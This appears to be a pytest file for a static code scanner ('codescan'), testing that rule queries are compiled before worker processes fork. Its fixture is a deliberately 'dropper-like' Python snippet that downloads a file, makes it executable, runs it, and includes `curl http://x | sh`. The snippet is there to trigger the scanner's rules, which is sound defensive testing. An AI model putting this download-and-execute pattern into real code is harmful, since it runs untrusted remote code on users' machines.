"""Forked workers share the driver's analyzer: rule queries compiled once before the fork, not once per worker."""
from __future__ import annotations

import os

from codescan import pipeline
from codescan.analyze import languages, treesitter
from codescan.config import Config
from codescan.records import Analysis, Document
from codescan.rules import load_rules

# A dropper-like file: admits several Python rules (urlretrieve, os.system, subprocess, chmod...).
BODY = (b"import os, subprocess, urllib.request\n"
        b"urllib.request.urlretrieve(url, path)\n"
        b"os.chmod(path, 0o755)\n"
        b"subprocess.call([path], shell=True)\n"
        b"os.system('curl http://x | sh')\n")


def _docs(n: int) -> list[Document]:
    return [Document(path=f"d{i:03d}.py", content=BODY + f"# {i}\n".encode() + b"x = 1\n" * 300) for i in range(n)]


def _compiled_by_run(rules, source: bytes) -> set[str]:
    fresh = treesitter.CompiledRules(rules, "python", lazy=True)
    tree = languages.parser("python").parse(source)
    list(fresh.run(tree.root_node, source=source))
    return set(fresh._solo)


def test_warm_compiles_what_a_run_over_the_same_source_compiles():
    rules = tuple(r for r in load_rules().rules if r.engine == "treesitter" and "python" in r.languages)
    for source, some in ((BODY, True), (b"x = 1\n", False), (b"import hashlib\nhashlib.md5(password.encode())\n", True)):
        warmed = treesitter.CompiledRules(rules, "python", lazy=True)
        count = warmed.warm(source)
        assert set(warmed._solo) == _compiled_by_run(rules, source)
        assert count == len(warmed._solo) and (count > 0) == some
        assert warmed.warm(source) == 0  # nothing compiled twice


def test_forked_workers_compile_none_of_the_queries_the_driver_compiled(monkeypatch, tmp_path):
    log = tmp_path / "compiles.txt"
    real = treesitter.compile_rule

    def logged(rule, language):
        with open(log, "a") as fh:
            fh.write(f"{os.getpid()} {rule.id}\n")
        return real(rule, language)

    monkeypatch.setattr(treesitter, "compile_rule", logged)  # inherited by the forked workers
    ruleset = load_rules()
    docs = _docs(120)  # > IN_PROCESS_BYTES and several batches: the worker pool runs
    out = [a for a in pipeline.analyze_all(iter(docs), ruleset, Config(jobs=2)) if isinstance(a, Analysis)]
    assert pipeline._PREBUILT is None  # forgotten after the scan
    by_pid: dict[str, list[str]] = {}
    for line in log.read_text().splitlines():
        pid, rule_id = line.split()
        by_pid.setdefault(pid, []).append(rule_id)
    driver = by_pid.pop(str(os.getpid()))
    assert driver and len(driver) == len(set(driver))
    # every worker found the file's rules compiled; what a worker still compiles (its folded view's rules)
    # is never one the driver compiled
    assert all(not set(compiled) & set(driver) for compiled in by_pid.values())
    alone = pipeline.Analyzer(ruleset, Config())
    assert len(out) == 120
    for analysis in out[::17]:
        doc = next(d for d in docs if d.path == analysis.path)
        assert [(f.rule_id, f.line) for f in analysis.findings] == \
            [(f.rule_id, f.line) for f in alone.analyze(doc).findings]
        assert analysis.findings


def test_a_worker_without_the_driver_analyzer_builds_its_own(monkeypatch):
    monkeypatch.setattr(pipeline, "die_with_parent", lambda: None)  # this is the test process, not a worker
    monkeypatch.setattr(pipeline, "limit_memory", lambda _limit: None)
    monkeypatch.setattr(pipeline, "_PREBUILT", None)  # as under the spawn start method
    ruleset, config = load_rules(), Config()
    pipeline._init_worker(ruleset, config)
    try:
        assert pipeline._ANALYZER is not None and pipeline._ANALYZER._ruleset is ruleset
        other = pipeline.Analyzer(ruleset, config)
        monkeypatch.setattr(pipeline, "_PREBUILT", (ruleset, config, False, other))
        pipeline._init_worker(ruleset, config)
        assert pipeline._ANALYZER is other
        pipeline._init_worker(ruleset, config, units=True)  # built for another job: not reused
        assert pipeline._ANALYZER is not other
    finally:
        pipeline._ANALYZER = None


def test_a_file_the_driver_cannot_read_does_not_stop_the_warm_up(monkeypatch):
    from codescan.analyze import document

    real = document.encoding.decode

    def fragile(content):
        if content.startswith(b"# BAD"):
            raise RuntimeError("odd input")
        return real(content)

    monkeypatch.setattr(document.encoding, "decode", fragile)
    analyzer = pipeline.Analyzer(load_rules(), Config(max_file_size=4096))
    docs = [Document(path="bad.py", content=b"# BAD\n" + BODY), Document(path="big.py", content=b"x" * 5000),
            Document(path="bin.py", content=b"\x00\xff" * 100), Document(path="good.py", content=BODY)]
    assert analyzer.warm(docs) > 0
    assert analyzer.compiled("python")._solo


def test_warm_imports_before_the_fork_what_analyzing_the_language_loads_later():
    """A worker forked after the warm-up finds the semantic adapter, the folding and the unit modules imported: it
    does not import them again (each worker paid ~0.1 CPU-s for them, the first time it met a language)."""
    import subprocess
    import sys

    wanted = ("codescan.analyze.semantics.lang.python", "codescan.analyze.fold_python", "codescan.cluster.units",
              "codescan.analyze.semantics.lang.javascript", "codescan.analyze.fold_javascript")
    script = ("import sys\nfrom codescan.analyze.document import Analyzer\nfrom codescan.config import Config\n"
              "from codescan.records import Document\nfrom codescan.rules import load_rules\n"
              f"wanted = {wanted!r}\n"
              "assert not any(m in sys.modules for m in wanted), [m for m in wanted if m in sys.modules]\n"
              "Analyzer(load_rules(), Config(), units=True).warm([Document(path='a.py', content=b'import os\\n'),\n"
              "    Document(path='b.js', content=b'const cp = require(\"child_process\");\\n')])\n"
              "print([m for m in wanted if m not in sys.modules])\n")
    run = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, env=dict(os.environ))
    assert run.returncode == 0, run.stderr
    assert run.stdout.strip() == "[]"


def test_the_driver_collects_young_objects_rarely_while_workers_run_and_restores_the_callers_setting():
    import gc

    before = gc.get_threshold()
    gc.set_threshold(700, before[1], before[2])
    try:
        seen = []
        for result in pipeline.analyze_all(iter(_docs(120)), load_rules(), Config(jobs=2)):
            seen.append(gc.get_threshold()[0])
        assert len(seen) == 120 and set(seen) == {pipeline.GC_YOUNG}
        assert gc.get_threshold() == (700, before[1], before[2])
    finally:
        gc.set_threshold(*before)
